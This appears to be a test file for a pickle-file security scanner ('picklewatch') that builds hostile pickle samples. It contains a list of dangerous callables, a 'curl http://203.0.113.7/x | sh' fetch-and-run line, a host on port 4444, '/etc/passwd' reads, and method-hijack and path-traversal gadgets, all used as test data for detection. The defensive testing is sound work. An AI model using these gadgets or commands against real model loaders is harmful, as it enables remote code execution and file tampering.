"""Imports are judged by what they can do when they are called with arguments of an attacker's choosing."""

# ruff: noqa: E501 - a sample a line reads better

from __future__ import annotations

import pytest
from samples.judged import judged, level, rules, worst
from samples.opcodes import (
    APPEND,
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    FALSE,
    NEWOBJ,
    NONE,
    POP,
    REDUCE,
    SETITEM,
    TRUE,
    TUPLE1,
    call,
    data,
    dict_,
    global_,
    new,
    number,
    pickle,
    stack_global,
    text,
    tuple_,
)

from picklewatch.catalogue.imports.classify import judge
from picklewatch.catalogue.imports.entries import Status, Use
from picklewatch.catalogue.imports.vouched import VOUCHED
from picklewatch.catalogue.rules import RULES
from picklewatch.core.model import Level

MALICIOUS = [
    ("os", "system", "true"), ("posix", "popen", "true"), ("nt", "system", "true"), ("subprocess", "run", "true"),
    ("builtins", "eval", "1"), ("builtins", "exec", "1"), ("builtins", "compile", "1"), ("builtins", "__import__", "os"),
    ("builtins", "open", "/tmp/x"), ("io", "open", "/tmp/x"), ("_io", "FileIO", "/tmp/x"), ("codecs", "open", "/tmp/x"),
    ("__builtin__", "execfile", "x"), ("__builtin__", "file", "x"), ("commands", "getoutput", "true"),
    ("importlib", "import_module", "os"), ("runpy", "run_path", "x"), ("ctypes", "CDLL", "x"), ("socket", "socket", ""),
    ("urllib.request", "urlopen", "http://x/"), ("http.client", "HTTPSConnection", "x"), ("shutil", "rmtree", "/x"),
    ("pty", "spawn", "sh"), ("pdb", "run", "1"), ("timeit", "timeit", "1"), ("cProfile", "run", "1"), ("code", "interact", ""),
    ("pickle", "loads", "x"), ("_pickle", "loads", "x"), ("marshal", "loads", "x"), ("dill", "loads", "x"),
    ("pip", "main", "x"), ("setuptools", "setup", "x"), ("webbrowser", "open", "http://x"), ("pkgutil", "resolve_name", "os:system"),
    ("operator", "attrgetter", "system"), ("operator", "methodcaller", "system"), ("types", "FunctionType", "x"),
    ("types", "CodeType", "x"), ("torch", "load", "x"), ("torch.hub", "load", "x"), ("torch.jit", "load", "x"),
    ("numpy", "load", "x"), ("joblib", "load", "x"), ("pandas", "read_pickle", "x"), ("pandas", "eval", "1"),
    ("numpy.testing._private.utils", "runstring", "1"), ("numpy.f2py.crackfortran", "myeval", "1"), ("requests", "get", "http://x"),
    ("torch.utils.cpp_extension", "load_inline", "x"), ("torch._inductor.codecache", "compile_file", "x"),
    ("antigravity", "geohash", "x"), ("sys", "exit", "x"), ("signal", "raise_signal", "x"), ("builtins", "setattr", "x"),
    ("picklescan.scanner", "scan_bytes", "x"), ("fickling.hook", "deactivate_safe_ml_environment", ""),
    ("picklewatch.core.policy", "decide", "x"), ("keras.layers", "Lambda", "x"), ("asyncio", "run", "x"),
    ("multiprocessing.managers", "RebuildProxy", "x"), ("threading", "Timer", "x"), ("tempfile", "mkstemp", "x"),
    ("huggingface_hub", "snapshot_download", "x"), ("sklearn.datasets", "fetch_openml", "x"), ("jinja2", "Template", "x"),
    ("test.support.script_helper", "assert_python_ok", "x"), ("sqlite3", "connect", "x"), ("logging.config", "listen", "x"),
]  # fmt: skip


@pytest.mark.parametrize(("module", "name", "argument"), MALICIOUS, ids=str)
def test_known_ways_to_do_harm_are_malicious(module: str, name: str, argument: str) -> None:
    """Called, or only referenced: no model needs them."""
    assert level(judged(pickle(2, call(module, name, text(argument))))) is Level.MALICIOUS
    assert level(judged(pickle(2, global_(module, name), POP, NONE))) in {Level.MALICIOUS, Level.UNSAFE}


UNLISTED_CALLS = [
    ("platform", "machine"), ("locale", "format_string"), ("string", "capwords"), ("difflib", "ndiff"), ("email", "message_from_string"),
    ("mylib.tools", "restore"), ("torch.serialization", "skip_data"), ("sklearn.utils", "shuffle"), ("numpy", "vectorise"),
    ("scipy.io", "loadmat"), ("pandas.core.common", "pipe"), ("builtins", "print"), ("math", "factorial"), ("torch", "tensor"),
]  # fmt: skip


@pytest.mark.parametrize(("module", "name"), UNLISTED_CALLS, ids=str)
def test_what_is_in_no_list_is_unsafe_when_called(module: str, name: str) -> None:
    """The net below the lists: nobody vouched for it, and the arguments are the author's."""
    assert level(judged(pickle(2, call(module, name, text("label"))))) is Level.UNSAFE


@pytest.mark.parametrize(
    "sample",
    [
        new("mylib.nets", "Net"),
        new("__main__", "Net") + dict_(width=number(3)) + BUILD,
        new("mylib.nets", "net"),
        stack_global("mylib.nets", "Outer.Inner") + EMPTY_TUPLE + NEWOBJ,
        global_("mylib.nets", "relu"),
        call("mylib.kinds", "Colour", number(2)),
        call("mylib.kinds", "TaskType", text("code")),
        call("mylib.fast", "Tree", number(2), number(3), call("numpy.core.multiarray", "scalar", call("numpy", "dtype", text("i8"), FALSE, FALSE), data(b"12345678"))),
        call("mylib.fast", "__pyx_unpickle_Tree", global_("mylib.fast", "Tree"), number(123), NONE),
        call("copy_reg", "_reconstructor", global_("mylib.nets", "Net"), global_("__builtin__", "object"), NONE),
        call("copyreg", "__newobj__", global_("mylib.nets", "Net")),
    ],
)  # fmt: skip
def test_classes_of_projects_are_unverified(sample: bytes) -> None:
    """Instances, references and members of enumerations of libraries that nobody vouched for are no alarm."""
    assert level(judged(pickle(4, sample))) is Level.UNVERIFIED


EVIDENCE = {
    "a shell command": text("curl http://203.0.113.7/x | sh"),
    "an address": text("https://203.0.113.7/x"),
    "code": text("__import__('os').system('true')"),
    "a path": text("/etc/passwd"),
    "a host and port": tuple_(text("203.0.113.7"), number(4444)),
    "the name of a denied function": text("os.system"),
    "deep inside": tuple_(tuple_(tuple_(text("bash -c true")))),
}


@pytest.mark.parametrize("argument", EVIDENCE)
def test_evidence_in_the_arguments_promotes_an_unknown_class(argument: str) -> None:
    """What would be a member of an enumeration is an attack's call with such an argument."""
    assert ORDERED(judged(pickle(2, call("mylib.kinds", "Thing", EVIDENCE[argument])))) >= ORDERED(Level.UNSAFE)


def ORDERED(value: object) -> int:  # noqa: N802 - reads as an ordering
    """Rank a report's or a level's harm."""
    found = value if isinstance(value, Level) else level(value)  # type: ignore[arg-type]
    return list(Level).index(found)


@pytest.mark.parametrize("name", ["ProxyCommand", "BackgroundRunner", "FileWriter", "HttpClient", "TcpSocket"])
def test_a_class_whose_name_says_what_it_does_is_unsafe_when_called(name: str) -> None:
    """A constructor of a thing that runs, writes or connects is no label."""
    assert level(judged(pickle(2, call("mylib.net", name, text("x"))))) is Level.UNSAFE


@pytest.mark.parametrize(
    "sample",
    [
        call("_codecs", "encode", text("\x01\xff"), text("latin1")),
        call("copyreg", "_reconstructor", global_("collections", "OrderedDict"), global_("builtins", "dict"), NONE),
        call("__builtin__", "set", b"](K\x01e"),
        call("collections", "defaultdict", global_("builtins", "list")),
        call("functools", "partial", global_("torch.nn.functional", "relu")),
        call("builtins", "getattr", global_("zoneinfo", "ZoneInfo"), text("_unpickle")) + tuple_(text("Europe/Berlin"), number(1)) + REDUCE,
        call("builtins", "getattr", global_("transformers.trainer_utils", "SchedulerType"), text("LINEAR")),
        call("transformers.trainer_utils", "SchedulerType", text("linear")),
        call("operator", "getitem", global_("typing", "Optional"), global_("builtins", "int")),
        call("functools", "reduce", global_("operator", "or_"), tuple_(global_("builtins", "int"), global_("builtins", "str"))),
        call("numpy.core", "_ufunc_reconstruct", text("numpy.core.umath"), text("log1p")),
        call("numpy.random._pickle", "__generator_ctor", text("PCG64"), global_("numpy.random._pickle", "__bit_generator_ctor")),
    ],
)  # fmt: skip
def test_what_is_harmless_with_the_right_arguments_is_clean(sample: bytes) -> None:
    """The arguments that honest files give pass."""
    report = judged(pickle(4, sample))
    assert report.inert, report.findings


@pytest.mark.parametrize(
    ("sample", "expected"),
    [
        (call("_codecs", "encode", text("x"), text("rot13")), Level.UNSAFE),
        (call("copyreg", "_reconstructor", global_("mylib", "C"), global_("mylib", "Base"), text("x")), Level.UNSAFE),
        (call("collections", "defaultdict", global_("os", "getcwd")), Level.MALICIOUS),
        (call("functools", "partial", global_("os", "system"), text("true")), Level.MALICIOUS),
        (call("functools", "partial", global_("mylib", "run"), text("curl http://x/ | sh")), Level.UNSAFE),
        (call("functools", "partial", global_("mylib", "run")) + EMPTY_TUPLE + REDUCE, Level.UNSAFE),
        (call("functools", "partial", global_("builtins", "int")) + tuple_(global_("os", "system"), EMPTY_TUPLE, EMPTY_DICT, NONE) + BUILD, Level.MALICIOUS),
        (call("builtins", "getattr", global_("mylib", "Thing"), text("__globals__")), Level.MALICIOUS),
        (call("builtins", "getattr", global_("mylib", "tools"), text("system")), Level.MALICIOUS),
        (call("builtins", "getattr", global_("mylib", "Net"), text("restore")) + tuple_(text("x")) + REDUCE, Level.UNSAFE),
        (call("builtins", "map", global_("mylib", "run"), tuple_(text("x"))), Level.UNSAFE),
        (call("itertools", "starmap", global_("mylib", "run"), tuple_(tuple_(text("x")))), Level.UNSAFE),
        (call("operator", "getitem", global_("builtins", "__dict__"), text("eval")), Level.UNSAFE),
        (call("functools", "reduce", global_("mylib", "run"), tuple_(text("x"))), Level.UNSAFE),
        (call("numpy.core", "_ufunc_reconstruct", text("os"), text("system")), Level.MALICIOUS),
        (call("numpy.random._pickle", "__generator_ctor", text("x"), global_("mylib", "run")), Level.MALICIOUS),
        (call("torch._tensor", "_rebuild_from_type_v2", global_("mylib", "run"), global_("torch", "Tensor"), tuple_(text("x")), NONE), Level.UNSAFE),
        (call("torch._tensor", "_rebuild_from_type_v2", global_("os", "system"), global_("torch", "Tensor"), tuple_(text("x")), NONE), Level.MALICIOUS),
        (call("builtins", "bytearray", b"\x8a\x08\xff\xff\xff\xff\xff\xff\xff\x7f"), Level.UNSAFE),
        (new("numpy", "memmap", text("/etc/passwd")), Level.UNSAFE),
        (call("dateutil.tz.tz", "tzfile", text("/etc/passwd")), Level.UNSAFE),
        (call("transformers.trainer_utils", "SchedulerType", text("/etc/passwd")), Level.UNSAFE),
    ],
)  # fmt: skip
def test_other_arguments_are_an_alarm(sample: bytes, expected: Level) -> None:
    """The same callables with what an attack needs."""
    assert ORDERED(judged(pickle(4, sample))) >= ORDERED(expected)


HIJACKS = {
    "__setstate__": dict_(__setstate__=global_("mylib", "run")) + BUILD + text("x") + BUILD,
    "append": dict_(append=global_("mylib", "run")) + BUILD + text("x") + APPEND,
    "extend": dict_(extend=global_("mylib", "run")) + BUILD + b"(" + text("x") + b"e",
    "add": dict_(add=global_("mylib", "run")) + BUILD + b"(" + text("x") + b"\x90",
}


@pytest.mark.parametrize("method", HIJACKS)
def test_a_planted_method_is_a_call(method: str) -> None:
    """The unpickler looks methods up on the instance: what BUILD put there is called."""
    report = judged(pickle(4, new("collections", "OrderedDict"), HIJACKS[method]))
    assert "hijacked-method" in rules(report)
    assert level(report) is Level.MALICIOUS


def test_a_replaced_class_is_malicious() -> None:
    """Slot state is set by setattr: ``__class__`` makes another object of it."""
    state = tuple_(NONE, dict_(__class__=global_("mylib", "Other")))
    assert level(judged(pickle(4, new("mylib", "Thing"), state, BUILD))) is Level.MALICIOUS


def test_build_on_an_imported_class_is_malicious() -> None:
    """It changes the class for the whole process."""
    state = tuple_(NONE, dict_(__init__=global_("mylib", "run")))
    assert level(judged(pickle(4, global_("collections", "OrderedDict"), state, BUILD))) is Level.MALICIOUS


def test_states_that_libraries_run_are_looked_at() -> None:
    """An argument template of scipy, a formula of statsmodels, a file of sklearn_crfsuite: code hidden as data."""
    honest = "\ndef _parse_args(self, a, loc=0, scale=1):\n    return (a,), loc, scale\n"
    gen = new("scipy.stats._continuous_distns", "gamma_gen")
    assert judged(pickle(4, gen, dict_(_parse_arg_template=text(honest)), BUILD)).inert
    evil = honest + "import os\n"
    assert level(judged(pickle(4, gen, dict_(_parse_arg_template=text(evil)), BUILD))) is Level.MALICIOUS
    data_ = new("statsmodels.base.data", "ModelData")
    assert level(judged(pickle(4, data_, dict_(formula=text("__import__('os') ~ x")), BUILD))) is Level.MALICIOUS
    crf = new("sklearn_crfsuite._fileresource", "FileResource")
    evil_file = dict_(__FILE_RESOURCE_DATA__=data(b"x"), name=text("/home/u/.bashrc"))
    assert level(judged(pickle(4, crf, evil_file, BUILD))) is Level.MALICIOUS


@pytest.mark.parametrize(
    ("state", "wanted"),
    [
        (dict_(__FILE_RESOURCE_DATA__=data(b"x"), name=NONE, prefix=text("model"), suffix=text("")), Level.UNVERIFIED),
        (
            dict_(__FILE_RESOURCE_DATA__=data(b"x"), name=NONE, prefix=text("../home/u/.config/autostart/")),
            Level.MALICIOUS,
        ),
        (dict_(__FILE_RESOURCE_DATA__=data(b"x"), name=NONE, suffix=text("/../x")), Level.MALICIOUS),
        (dict_(keep_tempfiles=FALSE, auto=TRUE, fd=number(1), name=text("/home/u/thesis.tex")), Level.MALICIOUS),
        (dict_(keep_tempfiles=FALSE, auto=FALSE, name=text("/home/u/model.crfsuite")), Level.UNVERIFIED),
    ],
)
def test_a_model_of_crfsuite_writes_and_removes_temporary_files_only(state: bytes, wanted: Level) -> None:
    """A prefix with a directory is a write anywhere, and ``__del__`` removes what the state names."""
    made = new("sklearn_crfsuite._fileresource", "FileResource")
    assert level(judged(pickle(4, made, state, BUILD))) is wanted


@pytest.mark.parametrize(
    "module", ["cloudpickle.cloudpickle", "dill._dill", "torch.fx.graph_module", "pyspark.cloudpickle"]
)
def test_code_bearing_by_nature_is_unsafe_and_no_more(module: str) -> None:
    """Such a file is a program; it is malicious only with an attack in it."""
    function = call(
        module, "_make_function", call(module, "_builtin_type", text("CodeType")) + tuple_(number(1)) + REDUCE
    )
    honest = judged(pickle(4, function))
    assert level(honest) is Level.UNSAFE
    assert rules(honest) == {"code-bearing"}
    referring = judged(pickle(4, function, POP, global_("os", "getcwd")))
    assert level(referring) is Level.UNSAFE
    attack = judged(pickle(4, function, POP, call("os", "system", text("true"))))
    assert level(attack) is Level.MALICIOUS


def test_judgement_is_by_name_alone_and_both_readings_count() -> None:
    """Names of Python 2 are read as Python 3 maps them, and literally; the worse counts."""
    assert judge("copy_reg", "_reconstructor") == judge("copyreg", "_reconstructor")
    assert judge("__builtin__", "eval").level is Level.MALICIOUS
    assert judge("itertools", "imap").level is Level.UNVERIFIED
    assert judge("cPickle", "loads").level is Level.MALICIOUS


def test_a_package_that_shares_its_name_with_a_module_is_foreign() -> None:
    """``code`` and ``profile`` of the standard library have nothing below them."""
    assert judge("code.models", "Net").status is Status.FOREIGN
    assert judge("profile.models", "Net").status is Status.FOREIGN
    assert judge("code", "InteractiveConsole").level is Level.MALICIOUS


def test_dotted_names_are_never_vouched_for_by_their_module() -> None:
    """An allowed class is no way to its attributes."""
    assert judge("torch.nn.modules.linear", "Linear").level is Level.INFO
    named = judge("torch.nn.modules.linear", "Linear.forward")
    assert named.level is Level.UNVERIFIED
    assert not named.uses
    assert judge("torch.nn.modules.linear", "Linear.__init__.__globals__").level is Level.MALICIOUS
    assert judge("collections", "OrderedDict.fromkeys").level is Level.UNSAFE


def test_the_self_test_file_is_malicious_by_its_own_rule() -> None:
    """The EICAR of this field."""
    report = judged(pickle(2, global_("PICKLEWATCH_SELF_TEST", "harmless")))
    assert worst(report).rule == "self-test-file"
    assert level(report) is Level.MALICIOUS


def test_every_rule_that_is_named_is_registered() -> None:
    """Each finding leads to a page."""
    samples = [call(*names[:2], text(names[2])) for names in MALICIOUS]
    named = {rule for sample in samples for rule in rules(judged(pickle(2, sample)))}
    assert named <= set(RULES)


def test_every_entry_of_the_vouched_list_has_a_reason() -> None:
    """The lists are data that explain themselves."""
    assert all(group.reason and group.uses <= set(Use) for group in VOUCHED)


def test_dict_subclasses_take_items() -> None:
    """SETITEM on what is a dict is honest."""
    assert judged(pickle(2, call("collections", "OrderedDict"), text("a"), NONE, SETITEM)).inert
    assert level(judged(pickle(2, new("mylib", "Mapping"), text("a"), NONE, SETITEM))) is Level.UNVERIFIED


def test_a_tombstone_is_no_alarm() -> None:
    """Our own tombstones name a module that does not exist."""
    assert level(judged(pickle(2, global_("QUARANTINED_BY_picklewatch", "x"), TUPLE1))) is Level.UNVERIFIED
